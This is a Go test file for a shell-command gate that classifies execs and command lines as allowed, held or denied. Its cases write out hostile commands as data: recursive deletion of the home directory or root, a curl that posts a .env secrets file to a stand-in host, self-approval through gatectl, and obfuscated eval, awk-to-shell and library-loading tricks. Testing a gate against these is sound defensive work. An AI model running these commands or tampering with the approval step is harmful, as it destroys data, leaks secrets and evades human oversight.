package judge

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gatesh/gatesh/internal/input"
	"github.com/gatesh/gatesh/internal/policy"
	"github.com/gatesh/gatesh/internal/wire"
)

// bothLayers is what the daemon sets when it puts the exec gate and
// confinement on a line's tree.
var bothLayers = input.Layers{Exec: true, Confine: true}

// TestExecMode judges programs as the exec gate asks about them (mode exec):
// the program named by what it is, its real argv, the policy of the line. The
// default rules must give an exec the decision they give the same command
// typed as a line, and hold a program that cannot be named.
func TestExecMode(t *testing.T) {
	te := newTestEnv(t)
	if err := os.WriteFile(filepath.Join(te.ws, "build.sh"), []byte("#!/bin/sh\necho built\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	copied := filepath.Join(te.ws, "g") // a copy of git under another name
	ctx := context.Background()
	for _, tc := range []struct {
		name   string
		exec   input.Exec
		action string
		id     string // a reason the decision must carry ("" for none)
	}{
		{"git push", input.Exec{Path: "/usr/bin/git", Resolved: "/usr/bin/git", Argv: []string{"git", "push", "origin", "HEAD"}}, policy.Hold, "git.push"},
		{"rm -rf ~", input.Exec{Path: "/bin/rm", Resolved: "/usr/bin/rm", Argv: []string{"rm", "-rf", te.home}}, policy.Deny, "files.rm.catastrophic"},
		{"copied git push", input.Exec{Path: "./g", Resolved: copied, Identity: "git", Argv: []string{"./g", "push", "-f", "origin", "HEAD:main"}}, policy.Hold, "git.push.force"},
		{"renamed git status", input.Exec{Path: "./g", Resolved: copied, Identity: "git", Argv: []string{"g", "status"}}, policy.Allow, ""},
		{"gatectl approve", input.Exec{Path: "/usr/local/bin/gatectl", Resolved: "/usr/local/bin/gatectl", Argv: []string{"gatectl", "approve", "3"}}, policy.Deny, "tamper.gatectl"},
		{"bash -c push", input.Exec{Path: "/bin/bash", Resolved: "/usr/bin/bash", Argv: []string{"bash", "-c", "git push"}}, policy.Hold, "git.push"},
		{"/bin/true", input.Exec{Path: "/bin/true", Resolved: "/usr/bin/true", Argv: []string{"/bin/true"}}, policy.Allow, ""},
		{"ls", input.Exec{Path: "/bin/ls", Resolved: "/usr/bin/ls", Argv: []string{"ls", "-la"}}, policy.Allow, ""},
		{"cat README.md", input.Exec{Path: "/bin/cat", Resolved: "/usr/bin/cat", Argv: []string{"cat", "README.md"}}, policy.Allow, ""},
		{"git status", input.Exec{Path: "/usr/bin/git", Resolved: "/usr/bin/git", Argv: []string{"git", "status"}}, policy.Allow, ""},
		{"make", input.Exec{Path: "/usr/bin/make", Resolved: "/usr/bin/make", Argv: []string{"make"}}, policy.Allow, ""},
		{"python3 x.py", input.Exec{Path: "/usr/bin/python3", Resolved: "/usr/bin/python3.12", Argv: []string{"python3", "x.py"}}, policy.Allow, ""},
		{"npm run build", input.Exec{Path: "/usr/bin/npm", Resolved: "/usr/lib/node_modules/npm/bin/npm-cli.js", Argv: []string{"npm", "run", "build"}}, policy.Allow, ""},
		{"sh -c echo", input.Exec{Path: "/bin/sh", Resolved: "/usr/bin/dash", Argv: []string{"sh", "-c", "echo hi"}}, policy.Allow, ""},
		{"./build.sh", input.Exec{Path: "./build.sh", Resolved: filepath.Join(te.ws, "build.sh"), Argv: []string{"./build.sh"}}, policy.Allow, ""},
		{"curl -d @.env", input.Exec{Path: "/usr/bin/curl", Resolved: "/usr/bin/curl", Argv: []string{"curl", "-d", "@.env", "https://x.example"}}, policy.Hold, "network.http.write"},
		{"memfd", input.Exec{Path: "", Argv: []string{"x"}, Opaque: true}, policy.Hold, "opaque.exec-unnamed"},
		{"argv too large", input.Exec{Path: "/usr/bin/git", Resolved: "/usr/bin/git", Argv: []string{"git", "status"}, Opaque: true}, policy.Hold, "opaque.exec-unnamed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			tc.exec.Chain = []string{"bash"}
			tc.exec.Line = "make all"
			v, err := te.judge.Judge(ctx, Question{Mode: wire.ModeExec, Exec: &tc.exec, Cwd: te.ws, Env: te.env, Layers: bothLayers})
			if err != nil || v.Err != nil {
				t.Fatalf("judge: %v / %v", err, v.Err)
			}
			var ids []string
			for _, r := range v.Reasons {
				ids = append(ids, r.ID)
			}
			if v.Action != tc.action {
				t.Fatalf("%s: %s (%v), want %s", v.Command, v.Action, ids, tc.action)
			}
			if tc.id != "" && !strings.Contains(" "+strings.Join(ids, " ")+" ", " "+tc.id+" ") {
				t.Errorf("%s: reasons %v, want %s among them", v.Command, ids, tc.id)
			}
			if v.Doc == nil || v.Doc.Mode != wire.ModeExec || v.Doc.Exec == nil || v.Doc.Layers != bothLayers {
				t.Errorf("document: mode %q, exec %v, layers %+v", v.Doc.Mode, v.Doc.Exec, v.Doc.Layers)
			}
		})
	}
}

// TestConformanceUnderLayers runs the labelled corpora as the daemon judges a
// line it will run under the exec gate and confinement: every gate line must
// still be held or denied, except those whose only reason was code the line
// judge cannot see (listed here, each judged again at exec).
func TestConformanceUnderLayers(t *testing.T) {
	te := newTestEnv(t)
	cases := append(readLabelled(t, "corpus.tsv", false), readLabelled(t, "own.tsv", true)...)
	covered := map[string]bool{}
	for _, l := range layerCovered {
		covered[l] = true
	}
	ctx := context.Background()
	for _, c := range cases {
		if c.label != "gate" {
			continue
		}
		_, d, err := checkUnder(ctx, te.judge, c.command, te.ws, te.env, false, bothLayers)
		if err != nil {
			t.Fatalf("%q: %v", c.command, err)
		}
		if d.Action == policy.Allow && !covered[c.command] {
			t.Errorf("%s:%d %q (%s): allowed under the layers", c.file, c.line, c.command, c.why)
		}
		if d.Action != policy.Allow && covered[c.command] {
			t.Errorf("%s:%d %q: %s %v under the layers, want allow (the layers cover it)", c.file, c.line, c.command, d.Action, ids(d.Reasons))
		}
	}
}

// layerCovered are gate lines of the corpora held only for code computed at
// run time from local data: under the layers what that code starts is judged
// at exec, and its writes are confined.
var layerCovered = []string{
	"echo ok | xargs bash -c",
	"$SUDO_CMD rm -rf /",            // rm -rf / is denied at exec, and / is not writable
	"$CMD test",                     // the program is judged at exec
	`"$(printf 'r%s' m)" -rf ~`,     // rm -rf ~ is denied at exec, and ~ is not writable
	"$(echo rm) -rf build",          // rm -rf build is judged at exec
	"`echo git` push",               // the push is held at exec
	`bash -c "$PAYLOAD"`,            // what it starts is judged at exec
	`eval "$CMD"`,                   // idem
	`. /dev/stdin <<< "$X"`,         // idem
	`awk '{print | "sh"}' cmds.txt`, // sh runs cmds.txt: each program judged at exec
	`gawk '{ print | "bash" }' cmds.txt`,
	`/usr/bin/awk '{print|"sh"}' cmds.txt`,
	"gawk -i lib.awk '{print}' data.txt", // code from a file, as a script file
	"awk -l ./x.so '{print}' data.txt",
	"gawk --load=./x.so 'BEGIN{}'",
	"gawk -W load=./x.so 'BEGIN{}'",
	"cat build.sh | bash",                    // as bash build.sh
	`python3 -c "import os; os.system(cmd)"`, // cmd is judged at exec
}
